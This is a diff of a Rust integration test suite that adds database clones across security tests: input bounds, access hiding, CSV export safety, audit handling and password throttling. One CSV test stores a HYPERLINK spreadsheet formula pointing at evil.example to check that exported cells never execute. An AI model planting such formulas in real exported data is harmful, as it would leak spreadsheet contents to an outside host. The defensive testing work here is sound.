@@ -38,7 +38,7 @@ fn fields(e: &Value) -> Vec<String> {
 #[tokio::test]
 async fn numbers_beyond_their_bounds_are_refused_on_the_field_and_the_server_keeps_answering() {
     for t in seeded_databases().await {
-        let base = spawn(t.db).await;
+        let base = spawn(t.db.clone()).await;
         let manager = login(&base, MANAGER).await;
         let a = agreement(&base, &manager, "AGR-2023-0001").await;
         let id = a["id"].as_i64().unwrap();
@@ -138,7 +138,7 @@ async fn numbers_beyond_their_bounds_are_refused_on_the_field_and_the_server_kee
 #[tokio::test]
 async fn a_parent_the_caller_may_not_see_reads_as_one_that_does_not_exist() {
     for t in seeded_databases().await {
-        let base = spawn(t.db).await;
+        let base = spawn(t.db.clone()).await;
         let sc = login(&base, MANAGER).await;
         let hidden = agreement(&base, &sc, "AGR-2023-0001").await["id"].clone();
         let dwp = login(&base, "manager@dwp.example").await;
@@ -182,7 +182,7 @@ async fn a_parent_the_caller_may_not_see_reads_as_one_that_does_not_exist() {
 async fn exported_csv_cells_never_run_as_formulas() {
     for t in seeded_databases().await {
         let db = t.db.clone();
-        let base = spawn(t.db).await;
+        let base = spawn(t.db.clone()).await;
         let formula = r#"=HYPERLINK("https://evil.example/?"&A2,"Access Nova Scotia")"#;
         {
             use sea_orm::ConnectionTrait;
@@ -241,7 +241,7 @@ async fn exported_csv_cells_never_run_as_formulas() {
 async fn a_client_request_id_never_reaches_the_audit_and_signed_in_answers_are_not_cached() {
     for t in seeded_databases().await {
         let db = t.db.clone();
-        let base = spawn(t.db).await;
+        let base = spawn(t.db.clone()).await;
         let manager = login(&base, MANAGER).await;
         let (_, me) = get_as(&format!("{base}/api/v1/me"), Some(&manager)).await;
         let (_, orgs) = get_as(
@@ -313,7 +313,7 @@ async fn a_client_request_id_never_reaches_the_audit_and_signed_in_answers_are_n
 #[tokio::test]
 async fn a_burst_of_wrong_passwords_gets_no_more_guesses_than_allowed() {
     for t in seeded_databases().await {
-        let base = spawn(t.db).await;
+        let base = spawn(t.db.clone()).await;
         let client = crate::common::client();
         let guesses = (0..20).map(|i| {
             client
@@ -342,7 +342,7 @@ async fn a_burst_of_wrong_passwords_gets_no_more_guesses_than_allowed() {
 #[tokio::test]
 async fn changing_a_password_is_throttled_like_signing_in() {
     for t in seeded_databases().await {
-        let base = spawn(t.db).await;
+        let base = spawn(t.db.clone()).await;
         let token = login(&base, MANAGER).await;
         let mut statuses = Vec::new();
         for i in 0..7 {
